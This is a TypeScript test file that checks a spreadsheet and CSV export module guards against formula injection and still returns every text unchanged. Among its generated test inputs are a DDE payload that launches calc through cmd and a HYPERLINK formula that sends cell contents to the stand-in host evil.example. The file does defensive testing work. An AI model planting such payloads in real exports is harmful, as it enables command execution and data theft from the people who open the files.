import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { randomFrom } from '../../../test/fixtures/workbooks/random.ts'
import { readAll } from '../../../test/fixtures/workbooks/read-all.ts'
import { unzip } from '../../../test/fixtures/workbooks/mutate.ts'
import { csvField, looksLikeFormula, withoutCsvGuard } from './neutralise.ts'
import { writeTable } from './write-table.ts'

const LEADS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u00a0=', '\u3000@', '\ufeff=', '\u200b+', "'", "'=", '"', '""=', '_x003D_', '_x000D_=', '\r\n=', '|', ';=', ',=']
const TAILS = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("https://evil.example/?"&A1,"点我")', 'SUM(A1:A9)', '张三', '', '12.5', 'a,b;c', 'x\ty', '第一行\n=第二行', '中文"引号"', '<b>&amp;</b>', ' 尾 ', '𬱖㛃']

/** 2,000 texts that a spreadsheet program might take for formulas, or that writing might change. */
function attacks(): string[] {
  const random = randomFrom(8)
  const texts = LEADS.flatMap((lead) => TAILS.map((tail) => lead + tail))
  while (texts.length < 2_000) texts.push(`${random.pick(LEADS)}${random.pick(TAILS)}${random.pick(LEADS)}${random.pick(TAILS)}${random.integer(1000)}`)
  return texts.filter((text) => text !== '').slice(0, 2_000)
}

/** RFC 4180, as strictly as it goes: what a program reads of a file of one field a line. */
function parseCsv(csv: string): string[] {
  return [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^"\n]*))\n/g)].map(([, quoted, plain]) => (quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"')))
}

describe('formula injection', () => {
  it('leaves no formula in a workbook, and every text comes back', async () => {
    const texts = attacks()
    const bytes = await writeTable({ sheetName: '导出', columns: [{ header: '文本', width: 20, kind: 'text' }, { header: '金额', width: 12, kind: 'money' }], rows: texts.map((text) => [text, 123_45]) })
    const sheet = unzip(Buffer.from(bytes)).find(({ name }) => name === 'xl/worksheets/sheet1.xml')?.data.toString('utf8') ?? ''
    expect(sheet.match(/<f[\s>/]/g)).toBeNull()
    expect(sheet.match(/<hyperlink/g)).toBeNull()
    const { cells } = await readAll(bytes)
    texts.forEach((text, index) => expect(cells.get(`A${index + 2}`), JSON.stringify(text)).toEqual(['text', text]))
    expect(cells.get('B2')).toEqual(['number', '123.45'])
    // A second reader sees no formula either.
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes.slice().buffer)
    workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)))
  })

  it('guards every such text in CSV, and every text comes back', () => {
    const texts = attacks()
    const fields = parseCsv(texts.map((text) => `${csvField(text)}\n`).join(''))
    expect(fields.map(withoutCsvGuard)).toEqual(texts)
    for (const field of fields) expect(looksLikeFormula(field), JSON.stringify(field)).toBe(false)
  })

  it('leaves plain numbers and names alone', () => {
    expect(['-12.5', '+8613800000000', '3', '张三', '43010219920314021X', ''].map(csvField)).toEqual(['-12.5', '+8613800000000', '3', '张三', '43010219920314021X', ''])
  })
})
